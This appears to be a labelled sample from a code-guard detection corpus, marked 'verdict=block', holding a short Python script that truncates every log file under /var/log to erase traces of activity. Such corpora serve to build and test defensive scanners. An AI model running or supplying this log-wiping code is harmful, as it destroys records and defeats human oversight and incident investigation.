# pyguard-corpus: verdict=block category=filesystem rules=PG706
# what: empties every log file under /var/log to erase traces of what ran
import glob

for log in glob.glob("/var/log/**/*.log", recursive=True):
    try:
        with open(log, "w"):
            pass
    except PermissionError:
        continue
